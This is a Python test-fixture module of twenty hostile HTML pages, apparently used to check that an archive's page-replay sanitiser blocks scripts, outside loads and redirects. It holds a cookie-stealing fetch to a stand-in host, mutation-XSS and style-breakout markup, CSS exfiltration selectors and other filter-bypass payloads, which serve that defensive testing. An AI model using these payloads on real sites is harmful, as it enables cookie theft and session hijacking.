"""Captured pages that try to run, to load, to send, to read and to lead away.

``OUTSIDE`` stands for a server that listens and must never be called; ``SITE`` for the archive.
"""

from __future__ import annotations

from typing import Final

TEXT: Final = (
    "<h1>افتتاح المكتبة الوطنية</h1><p id=text>افتُتحت المكتبة الوطنية صباح اليوم في العاصمة.</p>"
)
_SEND: Final = "fetch('OUTSIDE/sent?'+document.cookie);parent.document.title='TAKEN'"
_DEEP: Final = 3_000
_MANY: Final = 12_000


def _page(body: str, head: str = "") -> str:
    return (
        f"<!DOCTYPE html><html lang=ar dir=rtl><head><meta charset=utf-8>{head}</head>"
        f"<body>{TEXT}{body}</body></html>"
    )


HOSTILE: Final = {
    "scripts": _page(
        f"<script>{_SEND}</script><script src='OUTSIDE/a.js'></script>"
        "<script type=module>import 'OUTSIDE/m.js'</script>"
        f"<SCRIPT/x>{_SEND}</SCRIPT><script\n>{_SEND}</script >"
    ),
    "event handlers": _page(
        f'<img src=x onerror="{_SEND}"><p onmouseover="{_SEND}" onfocus="{_SEND}" autofocus tabindex=0>'
        f'نص</p><details open ontoggle="{_SEND}">نص</details><marquee onstart="{_SEND}">نص</marquee>',
        f'<style onload="{_SEND}"></style>',
    ),
    "a body with handlers": (
        f'<html><body onload="{_SEND}" onpageshow="{_SEND}" background="OUTSIDE/b.png">{TEXT}'
        "<table background=OUTSIDE/t.png><tr><td background=OUTSIDE/d.png>نص</table></body></html>"
    ),
    "svg": _page(
        f'<svg onload="{_SEND}"><script>{_SEND}</script><image href="OUTSIDE/i.png"/>'
        f'<use href="OUTSIDE/u.svg#a"/><foreignObject><iframe src="OUTSIDE/f"></iframe>'
        f'<img src=x onerror="{_SEND}"></foreignObject><animate onbegin="{_SEND}" attributeName=x '
        f'dur=1s /><a xlink:href="javascript:{_SEND}"><text y=20>نص</text></a>'
        '<filter id=f><feImage href="OUTSIDE/fe.png"/></filter><rect filter="url(OUTSIDE/x#f)" '
        'width=9 height=9 style="fill:url(OUTSIDE/fill)"/><style>@import "OUTSIDE/s.css";</style></svg>'
    ),
    "javascript addresses": _page(
        f'<a id=go href="javascript:{_SEND}">رابط</a><a href=" java\nscript:{_SEND}">رابط</a>'
        f'<a href="&#106;avascript:{_SEND}">رابط</a><iframe src="javascript:{_SEND}"></iframe>'
        f'<form action="javascript:{_SEND}"><button id=press>زر</button></form>'
        '<a href="data:text/html,<script>alert(1)</script>">رابط</a>'
    ),
    "meta refresh": _page(
        "",
        '<meta http-equiv=refresh content="0;url=OUTSIDE/r"><META HTTP-EQUIV="Refresh" '
        'CONTENT="0;javascript:1"><meta http-equiv=set-cookie content="session=taken">',
    ),
    "css that phones home": _page(
        '<p style="background:url(OUTSIDE/1.png);cursor:url(OUTSIDE/2.cur),auto">نص</p>'
        "<ul style=\"list-style-image:url('OUTSIDE/3.png')\"><li>نص</ul><input value=a class=k>",
        "<style>@import 'OUTSIDE/4.css';@import url(OUTSIDE/5.css) screen;"
        'body{background:u\\72 l(OUTSIDE/6.png)}p::before{content:url( "OUTSIDE/7.png" )}'
        "h1{background:image-set('OUTSIDE/8.png' 1x);border-image:-webkit-image-set(url(OUTSIDE/9) 1x)}"
        "@font-face{font-family:x;src:url(OUTSIDE/10.woff2)}h1{font-family:x}"
        'input[value^=a]{background:url(OUTSIDE/11)}/*"*/li{background:url(OUTSIDE/12)}'
        "h1::after{content:'\\';background:url(OUTSIDE/13);a:'}p{mask:url(OUTSIDE/14)}</style>",
    ),
    "css that ends its element": _page(
        "<style>p::after{content:'</style><img src=OUTSIDE/1 onerror=1>'}</style>"
        "<svg><style>&lt;img src=OUTSIDE/2&gt;</style></svg>"
        '<p style="content:&quot;</style><img src=OUTSIDE/3>&quot;">نص</p>'
    ),
    "prefetch": _page(
        "",
        "".join(
            f'<link rel="{relation}" href="OUTSIDE/{relation}" as=script>'
            for relation in (
                *("prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload"),
                *("prerender", "icon", "manifest", "stylesheet", "import", "alternate stylesheet"),
            )
        )
        + '<script type=speculationrules>{"prefetch":[{"urls":["OUTSIDE/s"]}]}</script>',
    ),
    "service worker": _page(
        "<script>navigator.serviceWorker.register('/replay/sw.js',{scope:'/'})</script>"
        "<script>new Worker('OUTSIDE/w.js');new SharedWorker('OUTSIDE/s.js')</script>",
        "<html manifest='OUTSIDE/app.cache'>",
    ),
    "forms": _page(
        '<form id=f action="OUTSIDE/form" method=post><input name=a value=b>'
        '<input type=image src="OUTSIDE/i.png"><button id=press formaction="OUTSIDE/b">زر</button>'
        '<input type=submit id=submit></form><button form=f formaction="SITE/logout/">زر</button>'
        '<form action="SITE/language/" method=post><input name=language value=en>'
        "<button id=press2>زر</button></form><isindex action=OUTSIDE/x>"
    ),
    "base": _page(
        '<img src="picture.png"><link rel=stylesheet href=style.css><a id=go href="elsewhere">رابط</a>',
        '<base href="OUTSIDE/base/" target=_top>',
    ),
    "frames": _page(
        '<iframe src="OUTSIDE/frame"></iframe><iframe src="SITE/account/"></iframe>'
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'
        '<iframe name=top sandbox="allow-scripts allow-same-origin" src="//OUTHOST/x"></iframe>'
        "<portal src=OUTSIDE/p></portal><fencedframe src=OUTSIDE/f></fencedframe>"
    ),
    "a set of frames": (
        "<html><frameset cols='50%,*'><frame src='OUTSIDE/one'><frame src='javascript:alert(1)'>"
        f"<noframes>{TEXT}</noframes></frameset></html>"
    ),
    "srcdoc": _page(
        f'<iframe srcdoc="<script>{_SEND}</script><img src=OUTSIDE/1 onerror=1>'
        "<meta http-equiv=refresh content='0;url=OUTSIDE/2'><iframe srcdoc='&lt;img src=OUTSIDE/3&gt;"
        "&lt;script&gt;top.location=1&lt;/script&gt;'></iframe><p>داخل الإطار</p>\"></iframe>"
    ),
    "objects": _page(
        '<object data="OUTSIDE/o" type=text/html><p>بديل</p></object><embed src="OUTSIDE/e">'
        '<applet code=OUTSIDE/a></applet><object data="data:text/html,<script>alert(1)</script>">'
        "</object><video src=OUTSIDE/v poster=OUTSIDE/p autoplay><track src=OUTSIDE/t default></video>"
        "<audio src=OUTSIDE/a autoplay></audio><video><source src=OUTSIDE/s></video>"
    ),
    "very large": _page(
        "".join(
            f'<p onclick="{number}"><img src="OUTSIDE/{number}"><a href="OUTSIDE/{number}">نص</a></p>'
            for number in range(_MANY)
        )
    ),
    "deeply nested": _page(
        "<div>" * _DEEP + f'<img src=OUTSIDE/deep onerror="{_SEND}"><script>{_SEND}</script>'
    ),
    "markup that changes its meaning": _page(
        '<noscript><p title="</noscript><img src=OUTSIDE/1 onerror=1>"></noscript>'
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=OUTSIDE/2 '
        'onerror=1&gt;"></table></mtext></math><textarea><img src=OUTSIDE/3></textarea>'
        "<xmp><img src=OUTSIDE/4></xmp><title><img src=OUTSIDE/5></title>"
        "<template><img src=OUTSIDE/6></template><select><style></select><img src=OUTSIDE/7></style>"
        "<!--><img src=OUTSIDE/8>--><![CDATA[<img src=OUTSIDE/9>]]><?x <img src=OUTSIDE/10>?>"
        "<noembed><img src=OUTSIDE/11></noembed><plaintext><img src=OUTSIDE/12>"
    ),
    "leading away": _page(
        '<a id=go href="OUTSIDE/away" target=_top ping="OUTSIDE/ping" download>رابط</a>'
        '<a href="//OUTHOST/x" attributionsrc=OUTSIDE/att>رابط</a><map name=m><area shape=default '
        'href="OUTSIDE/area" ping="OUTSIDE/p2"></map><img usemap="#m" srcset="OUTSIDE/1 1x, '
        'OUTSIDE/2 2x" lowsrc=OUTSIDE/3 longdesc=OUTSIDE/4 attributionsrc=OUTSIDE/5><picture>'
        '<source srcset="OUTSIDE/6"><img src="OUTSIDE/7" loading=lazy></picture>'
        "<blockquote cite=OUTSIDE/8>نص</blockquote><dialog open popover>نص</dialog>"
    ),
}
"""What each of the twenty tries → its page."""
